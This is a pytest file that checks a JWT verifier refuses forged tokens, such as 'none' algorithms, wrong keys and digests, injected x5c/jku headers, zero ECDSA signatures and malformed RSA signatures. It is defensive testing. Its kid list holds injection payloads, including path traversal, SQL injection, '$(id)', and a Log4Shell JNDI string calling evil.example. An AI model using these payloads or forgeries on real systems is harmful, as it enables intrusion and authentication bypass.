"""Tokens as forgers make them: with other keys, other algorithms and other forms, genuinely signed.

Sources: RFC 8725 §2 (threats to JWTs), RFC 7515, 7516 and 7518, and the advisories named beside the tests.
"""

import hashlib
import json
from datetime import UTC, datetime

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.serialization import Encoding
from sso_auth import InvalidToken
from token_pool import ID_CLAIMS, JWKS_URI, Pool, SigningKey, b64url, to_json

KIDS = [
    "../../../../dev/null",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "https://evil.example/jwks.json",
    "//evil.example",
    "key-1' OR '1'='1",
    'key-1"; DROP TABLE keys; --',
    "key-1 UNION SELECT 'AAAA'",
    "| whoami",
    "$(id)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "key-1%00",
    "key%2D1",
    "key-1\r\nX-Injected: 1",
    "ke\u0443-1",
    "\u212aey-1",
    "__proto__",
    "constructor",
    "0",
    "k" * 5000,
]


def refused(pool: Pool, token: str | bytes) -> str:
    with pytest.raises(InvalidToken) as caught:
        pool.verifier().verify(token)
    return caught.value.reason


def part(alg: str, **header: object) -> bytes:
    """Header and payload as they are signed."""
    return b64url(to_json({"alg": alg, "kid": "key-1", **header})) + b"." + b64url(to_json(ID_CLAIMS))


@pytest.mark.parametrize("kid", KIDS, ids=lambda kid: ascii(kid)[:20])
def test_a_kid_is_looked_up_and_nothing_else_is_done_with_it(pool: Pool, kid: str) -> None:
    verifier = pool.verifier()
    for key in (pool.key, pool.other_key):
        with pytest.raises(InvalidToken, match="kid names no acceptable key"):
            verifier.verify(pool.token(header={"kid": kid}, key=key))
    assert pool.fetched == [JWKS_URI]
    assert verifier.verify(pool.token())


@pytest.mark.parametrize("alg", ["nOnE", "NONE", "none ", "none\0", "n\u043fne", "null", "false", "0"])
def test_none_in_any_spelling(pool: Pool, alg: str) -> None:
    """CVE-2015-9235's family: libraries that compared the name in one case only."""
    for signature in (b"", b64url(pool.key.sign(part(alg)))):
        refused(pool, part(alg) + b"." + signature)


@pytest.mark.parametrize("label", ["PS256", "RS256"])
def test_a_signature_of_the_pools_own_key_in_another_scheme(pool: Pool, label: str) -> None:
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), padding.PSS.DIGEST_LENGTH)
    refused(pool, part(label) + b"." + b64url(pool.key.private.sign(part(label), pss, hashes.SHA256())))


@pytest.mark.parametrize(
    ("label", "digest"),
    [
        ("RS384", hashes.SHA384()),
        ("RS256", hashes.SHA384()),
        ("RS512", hashes.SHA512()),
        ("RS256", hashes.SHA512()),
        ("RS1", hashes.SHA1()),  # noqa: S303 - what is refused
        ("RS256", hashes.SHA1()),  # noqa: S303 - likewise
    ],
)
def test_a_signature_of_the_pools_own_key_with_another_digest(
    pool: Pool, label: str, digest: hashes.HashAlgorithm
) -> None:
    signature = pool.key.private.sign(part(label), padding.PKCS1v15(), digest)
    refused(pool, part(label) + b"." + b64url(signature))


@pytest.mark.parametrize("label", ["ES256", "RS256"])
def test_an_elliptic_key_in_the_key_set_signs_nothing(pool: Pool, label: str) -> None:
    private = ec.generate_private_key(ec.SECP256R1())
    point = private.public_key().public_numbers()
    x, y = (b64url(number.to_bytes(32, "big")).decode() for number in (point.x, point.y))
    pool.published.append({"kty": "EC", "crv": "P-256", "kid": "ec-1", "use": "sig", "x": x, "y": y})
    signed = part(label, kid="ec-1")
    r, s = decode_dss_signature(private.sign(signed, ec.ECDSA(hashes.SHA256())))
    refused(pool, signed + b"." + b64url(r.to_bytes(32, "big") + s.to_bytes(32, "big")))
    # CVE-2022-21449: a signature of zeros, which one implementation took for anybody's.
    refused(pool, signed + b"." + b64url(bytes(64)))


def test_an_ed25519_key_in_the_key_set_signs_nothing(pool: Pool) -> None:
    private = ed25519.Ed25519PrivateKey.generate()
    x = b64url(private.public_key().public_bytes_raw()).decode()
    pool.published.append({"kty": "OKP", "crv": "Ed25519", "kid": "ed-1", "use": "sig", "x": x})
    for label in ("EdDSA", "RS256"):
        signed = part(label, kid="ed-1")
        refused(pool, signed + b"." + b64url(private.sign(signed)))


def test_a_certificate_that_comes_along_is_not_looked_at(pool: Pool) -> None:
    """CVE-2018-0114's family: a key in the header, here with a certificate that even names the issuer."""
    stranger = pool.other_key
    name = x509.Name([x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, "cognito-idp.amazonaws.com")])
    certificate = (
        x509.CertificateBuilder(name, name, stranger.private.public_key(), x509.random_serial_number())
        .not_valid_before(datetime(2026, 1, 1, tzinfo=UTC))
        .not_valid_after(datetime(2036, 1, 1, tzinfo=UTC))
        .sign(stranger.private, hashes.SHA256())
        .public_bytes(Encoding.DER)
    )
    header = {
        "x5c": [b64url(certificate).decode()],
        "x5t": b64url(hashlib.sha1(certificate).digest()).decode(),  # noqa: S324 - as the header has it
        "x5t#S256": b64url(hashlib.sha256(certificate).digest()).decode(),
        "jwk": stranger.jwk(),
        "jku": "https://evil.example/jwks.json",
        "x5u": "https://evil.example/cert.pem",
    }
    for kid in (pool.key.kid, stranger.kid):
        refused(pool, pool.token(header={**header, "kid": kid}, key=stranger))
    assert set(pool.fetched) == {JWKS_URI}


def test_another_pools_key_under_the_same_kid(pool: Pool) -> None:
    other_pool = SigningKey(pool.key.kid)
    other_issuer = f"{str(ID_CLAIMS['iss'])[:-1]}X"
    assert refused(pool, pool.token(key=other_pool)) == "the signature does not match"
    assert refused(pool, pool.token(key=other_pool, iss=other_issuer)) == "the signature does not match"
    assert refused(pool, pool.token(iss=other_issuer)) == "iss is not the configured issuer"


@pytest.mark.parametrize("alg", ["dir", "RS256"])
def test_an_encrypted_token_is_none_of_ours(pool: Pool, alg: str) -> None:
    """Five parts (RFC 7516 §3.1): whoever holds the public key may encrypt, so it proves nothing."""
    key, nonce = bytes(range(32)), bytes(12)
    header = b64url(to_json({"alg": alg, "enc": "A256GCM", "kid": pool.key.kid}))
    sealed = AESGCM(key).encrypt(nonce, pool.token().encode(), header)
    parts = [header, b"", b64url(nonce), b64url(sealed[:-16]), b64url(sealed[-16:])]
    refused(pool, b".".join(parts))


def test_the_json_forms_of_a_signed_token(pool: Pool) -> None:
    """RFC 7515 §7.2: good signatures, in a form that nobody asked for."""
    protected, payload, signature = pool.token().split(".")
    flattened = {"protected": protected, "payload": payload, "signature": signature}
    general = {"payload": payload, "signatures": [{"protected": protected, "signature": signature}]}
    for form in (flattened, general):
        refused(pool, json.dumps(form))
    refused(pool, json.dumps(pool.token()))


def test_a_token_in_a_token(pool: Pool) -> None:
    inner = pool.token().encode()
    refused(pool, pool.key.token(to_json({"alg": "RS256", "kid": "key-1", "cty": "JWT"}), inner))
    refused(pool, pool.key.token(to_json({"alg": "RS256", "kid": "key-1", "zip": "DEF"}), b"\x03\x00"))


def test_no_other_number_is_the_same_signature(pool: Pool) -> None:
    """RFC 8017 §8.2.2: exactly as long as the modulus, and below it."""
    signed = part("RS256")
    raw = pool.key.sign(signed)
    assert pool.verifier().verify(signed + b"." + b64url(raw))
    modulus = pool.key.private.public_key().public_numbers().n
    number, size = int.from_bytes(raw, "big"), len(raw)
    others = [
        (number + modulus).to_bytes(size + 1, "big"),
        (modulus - number).to_bytes(size, "big"),
        modulus.to_bytes(size, "big"),
        (modulus - 1).to_bytes(size, "big"),
        *(small.to_bytes(size, "big") for small in (0, 1, 2)),
        b"\0" + raw,
        raw + b"\0",
        raw[1:],
        raw[:-1],
        raw[::-1],
        raw + raw,
        raw.hex().encode(),
    ]
    for other in others:
        refused(pool, signed + b"." + b64url(other))
